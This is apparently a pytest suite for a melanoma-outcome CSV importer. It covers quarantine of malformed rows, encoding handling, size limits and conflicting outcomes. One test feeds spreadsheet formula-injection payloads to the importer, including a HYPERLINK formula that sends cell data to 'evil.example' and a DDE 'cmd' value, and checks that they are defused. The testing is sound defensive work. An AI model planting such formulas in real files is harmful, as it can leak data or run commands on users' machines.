"""``melanoma-ml outcomes import``: every data row recorded, already recorded or quarantined with its row
number and reason; hostile files refused with a clear error and nothing written."""

from __future__ import annotations

import codecs
import csv
import json
import stat
from pathlib import Path

import pytest
from outcome_helpers import log_cases, png_bytes

from melanoma_ml.cli import main
from melanoma_ml.monitoring.outcome_import import import_outcomes
from melanoma_ml.monitoring.outcomes import OutcomeError, outcomes_file, read_outcomes


@pytest.fixture()
def root(tmp_path: Path) -> Path:
    return tmp_path / "artifacts"


@pytest.fixture()
def cases(root: Path) -> list[str]:
    return log_cases(root, 6, keep_images=False)


def write(tmp_path: Path, text: str, name: str = "results.csv", encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def cli_import(root: Path, path: Path) -> int:
    return main(["outcomes", "import", str(path), "--artifact-root", str(root), "--profile", "tiny"])


def quarantine_rows(path: Path) -> list[dict[str, str]]:
    limit = csv.field_size_limit()
    csv.field_size_limit(10_000_000)  # a quarantined row keeps a huge field whole
    try:
        with open(path, newline="", encoding="utf-8", errors="surrogateescape") as fh:
            return list(csv.DictReader(fh))
    finally:
        csv.field_size_limit(limit)


def accounted(summary) -> bool:
    return summary.rows == summary.recorded + summary.already_recorded + summary.quarantined


def test_a_good_file_with_loose_headers_and_synonyms_is_recorded(tmp_path, root, cases, capsys) -> None:
    spellings = ["melanoma", "Benign", "1", "0", "MEL", "not melanoma"]
    text = " Case ID ,OUTCOME,Reported_By,note\n" + "".join(
        f"{c},{o},Lab X,\n" for c, o in zip(cases, spellings, strict=True)
    )
    path = write(tmp_path, text)
    assert cli_import(root, path) == 0
    out = capsys.readouterr().out
    assert "6 data rows: 6 recorded, 0 already recorded (nothing added), 0 quarantined" in out
    frame = read_outcomes(root)
    assert list(frame["outcome"]) == ["melanoma", "benign", "melanoma", "benign", "melanoma", "benign"]
    assert set(frame["reported_by"]) == {"Lab X"} and set(frame["source"]) == {"import"}
    assert frame["note"].isna().all()
    record = json.loads(outcomes_file(root).read_text().splitlines()[0])
    assert record["import_file"] == "results.csv" and record["row"] == 2


def test_malformed_rows_are_quarantined_with_row_numbers_and_the_good_rows_recorded(
    tmp_path, root, cases, capsys
) -> None:
    rows = [
        "case_id,outcome,note",
        f"{cases[0]},melanoma,ok",  # row 2
        "C-20261207-000000000000,benign,",  # row 3: unknown case
        f"{cases[1]},malignant,",  # row 4: ambiguous outcome
        f"{cases[2]},benign,a,b",  # row 5: a separator in the note, unquoted
        ",benign,",  # row 6: no case id
        f'{cases[3]},benign,"multi\nline note"',  # row 7: fine (quoted newline)
        f"{cases[4]},benign,{'x' * 3000}",  # row 8: note too long
    ]
    path = write(tmp_path, "\n".join(rows) + "\n")
    assert cli_import(root, path) == 0
    summary = import_outcomes(root, path)  # again: the good rows are already there
    assert summary.recorded == 0 and summary.already_recorded == 2 and summary.quarantined == 5
    assert accounted(summary)
    assert [r["note"] for r in read_outcomes(root).to_dict("records")] == ["ok", "multi\nline note"]
    out = capsys.readouterr().out
    assert "7 data rows: 2 recorded" in out and "5 quarantined" in out
    quarantine = Path(out.split("row number and reason: ")[1].split()[0])
    assert quarantine.parent == root.resolve() / "monitoring" / "outcomes" / "quarantine"
    assert quarantine.name.startswith("results-") and quarantine.suffix == ".csv"
    assert stat.S_IMODE(quarantine.stat().st_mode) == 0o600
    reasons = {int(r["row"]): r["reason"] for r in quarantine_rows(quarantine)}
    assert set(reasons) == {3, 4, 5, 6, 8}
    assert "unknown case id 'C-20261207-000000000000'" in reasons[3]
    assert "'malignant' does not say whether it is a melanoma" in reasons[4]
    assert "row has 4 fields but the header has 3 columns" in reasons[5]
    assert "case id is empty" in reasons[6]
    assert "note has 3,000 characters" in reasons[8]
    kept = {int(r["row"]): r for r in quarantine_rows(quarantine)}
    assert kept[5]["extra_field_1"] == "b" and kept[8]["note"] == "x" * 3000  # nothing lost
    fixed = quarantine.read_text().replace(f"{cases[1]},malignant", f"{cases[1]},melanoma")
    again = import_outcomes(root, write(tmp_path, fixed, name="fixed.csv"))
    assert again.ignored_columns == ["extra_field_1"]
    recorded = read_outcomes(root).set_index("case_id")
    assert recorded.loc[cases[1], "outcome"] == "melanoma" and recorded.loc[cases[1], "row"] == 3


def test_reimporting_the_same_file_adds_nothing(tmp_path, root, cases) -> None:
    path = write(tmp_path, "case_id,outcome\n" + "".join(f"{c},benign\n" for c in cases[:3]))
    first = import_outcomes(root, path)
    before = outcomes_file(root).read_bytes()
    second = import_outcomes(root, path)
    assert (first.recorded, second.recorded, second.already_recorded) == (3, 0, 3)
    assert outcomes_file(root).read_bytes() == before
    assert second.quarantine_file is None and not second.conflicts


def test_conflicting_rows_are_both_recorded_and_named(tmp_path, root, cases) -> None:
    path = write(tmp_path, f"case_id,outcome\n{cases[0]},benign\n{cases[0]},melanoma\n{cases[1]},benign\n")
    summary = import_outcomes(root, path)
    assert summary.recorded == 3 and summary.conflicts == [cases[0]]
    assert "1 case(s) now have conflicting outcomes" in summary.text() and "--supersedes" in summary.text()
    fix = write(tmp_path, f"case_id,outcome,supersedes\n{cases[0]},melanoma,yes\n", name="fix.csv")
    assert import_outcomes(root, fix).conflicts == []


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "is empty: nothing imported"),
        (b"\n \r\n", "is empty: nothing imported"),
        (png_bytes(1), "is not a text file (it holds NUL bytes"),
        (b"case_id,outcome,Outcome\nC-1,benign,benign\n", "column 'outcome' is named 2 times in the header"),
        (b"id,result_text\nC-1,benign\n", "the first row must name the columns case_id and outcome"),
    ],
)
def test_unreadable_files_are_refused_with_a_clear_error_and_nothing_written(
    tmp_path, root, cases, capsys, content, message
) -> None:
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    with pytest.raises(OutcomeError) as err:
        import_outcomes(root, path)
    assert message in str(err.value) and str(path) in str(err.value)
    assert cli_import(root, path) == 2
    assert message in capsys.readouterr().err
    assert not outcomes_file(root).exists()
    assert not (root / "monitoring" / "outcomes" / "quarantine").exists()


def test_a_missing_file_and_a_folder_are_refused(tmp_path, root) -> None:
    with pytest.raises(OutcomeError, match="outcomes file not found"):
        import_outcomes(root, tmp_path / "nope.csv")
    with pytest.raises(OutcomeError, match="is a folder"):
        import_outcomes(root, tmp_path)


def test_a_file_over_the_size_limit_is_refused(tmp_path, root, monkeypatch) -> None:
    from melanoma_ml.monitoring import outcome_import

    monkeypatch.setattr(outcome_import, "MAX_FILE_BYTES", 100)
    path = write(tmp_path, "case_id,outcome\n" + "C-20261207-000000000000,benign\n" * 10)
    with pytest.raises(OutcomeError, match="split it into smaller files"):
        import_outcomes(root, path)


def test_a_huge_field_is_quarantined_whole_and_the_other_rows_recorded(tmp_path, root, cases) -> None:
    note = "y" * 1_000_000  # longer than the csv module's default field limit (131072)
    path = write(tmp_path, f"case_id,outcome,note\n{cases[0]},benign,{note}\n{cases[1]},melanoma,short\n")
    summary = import_outcomes(root, path)
    assert (summary.recorded, summary.quarantined) == (1, 1)
    (row,) = quarantine_rows(summary.quarantine_file)
    assert row["row"] == "2" and "note has 1,000,000 characters" in row["reason"]
    assert row["note"] == note
    assert csv.field_size_limit() == 131072  # the import restored the csv module's limit


def test_rows_that_are_not_utf8_are_quarantined_byte_for_byte(tmp_path, root, cases) -> None:
    raw = f"case_id,outcome,reported_by\n{cases[0]},benign,Dr M".encode() + b"\xfcller\n"
    raw += f"{cases[1]},melanoma,Dr N\n".encode()
    path = tmp_path / "latin1.csv"
    path.write_bytes(raw)
    summary = import_outcomes(root, path)
    assert (summary.recorded, summary.quarantined) == (1, 1)
    (row,) = quarantine_rows(summary.quarantine_file)
    assert "reported_by is not UTF-8 text" in row["reason"] and "re-save the file as UTF-8" in row["reason"]
    assert b"Dr M\xfcller" in summary.quarantine_file.read_bytes()


@pytest.mark.parametrize(
    ("encoding", "separator"),
    [("utf-8-sig", ","), ("utf-16", "\t"), ("utf-8", ";"), ("utf-8", "\t")],
)
def test_bom_utf16_and_other_separators_are_read(tmp_path, root, cases, encoding, separator) -> None:
    text = f"case_id{separator}outcome{separator}note\r\n{cases[0]}{separator}melanoma{separator}Müller\r\n"
    path = write(tmp_path, text, encoding=encoding)
    if encoding == "utf-16":
        assert path.read_bytes()[:2] in (codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE)
    summary = import_outcomes(root, path)
    assert summary.recorded == 1, summary.text()
    assert read_outcomes(root).loc[0, "note"] == "Müller"


def test_a_repeated_header_and_blank_rows_are_skipped_and_counted(tmp_path, root, cases) -> None:
    text = f"\ncase_id,outcome\n{cases[0]},benign\n\n,\ncase_id,outcome\n{cases[1]},melanoma\n"
    summary = import_outcomes(root, write(tmp_path, text))
    assert summary.recorded == 2 and summary.rows == 2 and summary.skipped_blank == 2
    assert summary.skipped_header_repeats == [5]
    assert "header repeated at row(s) 5" in summary.text()


def test_formula_text_is_recorded_as_given_and_defused_in_the_quarantine(tmp_path, root, cases) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    path = tmp_path / "f.csv"
    with open(path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["case_id", "outcome", "note"])
        writer.writerow([cases[0], "benign", formula])
        writer.writerow(["@SUM(1+1)", "benign", "+cmd|' /C calc'!A0"])
    summary = import_outcomes(root, path)
    assert read_outcomes(root).loc[0, "note"] == formula  # the record keeps the text exactly
    (row,) = quarantine_rows(summary.quarantine_file)
    assert row["case_id"] == "'@SUM(1+1)" and row["note"] == "'+cmd|' /C calc'!A0"
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row.values())


def test_a_file_whose_rows_are_all_bad_exits_2_and_keeps_them(tmp_path, root, cases, capsys) -> None:
    path = write(tmp_path, "case_id,outcome\nC-20261207-000000000000,benign\nnot-a-case,melanoma\n")
    assert cli_import(root, path) == 2
    captured = capsys.readouterr()
    assert "2 quarantined" in captured.out and "no row of" in captured.err
    assert not outcomes_file(root).exists()
    (quarantine,) = (root / "monitoring" / "outcomes" / "quarantine").iterdir()
    assert len(quarantine_rows(quarantine)) == 2


def test_a_header_only_file_exits_2(tmp_path, root, cases) -> None:
    assert cli_import(root, write(tmp_path, "case_id,outcome\n")) == 2


def test_extra_columns_are_ignored_and_named(tmp_path, root, cases) -> None:
    path = write(tmp_path, f"case_id,outcome,ward\n{cases[0]},benign,3B\n")
    summary = import_outcomes(root, path, reported_by="pathology feed")
    assert summary.ignored_columns == ["ward"] and "ignored column(s) ['ward']" in summary.text()
    assert read_outcomes(root).loc[0, "reported_by"] == "pathology feed"
